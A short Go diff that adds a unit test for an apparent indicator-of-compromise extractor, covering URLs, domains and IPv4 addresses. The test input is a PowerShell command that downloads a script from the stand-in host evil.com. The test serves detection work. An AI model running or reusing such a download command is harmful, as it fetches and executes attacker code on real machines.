@@ -339,3 +339,17 @@ func BenchmarkCachedLookup(b *testing.B) {
 	}
 	b.ReportMetric(float64(n)/b.Elapsed().Seconds(), "lookups/s")
 }
+
+func TestIndicators(t *testing.T) {
+	got := Indicators(`powershell -c "iwr hxxp://evil[.]com/a.ps1; nslookup 8.8.8.8; iwr http://evil.com/a.ps1"`)
+	want := []Query{{"http://evil.com/a.ps1", "url"}, {"evil.com", "dns"}, {"8.8.8.8", "ipv4"}}
+	if fmt.Sprint(got) != fmt.Sprint(want) {
+		t.Errorf("Indicators = %v, want %v", got, want)
+	}
+	if got := Indicators(" 1.2.3.4 "); len(got) != 1 || got[0] != (Query{"1.2.3.4", "ipv4"}) {
+		t.Errorf("Indicators(one) = %v", got)
+	}
+	if got := Indicators("nothing to see"); len(got) != 0 {
+		t.Errorf("Indicators(none) = %v", got)
+	}
+}
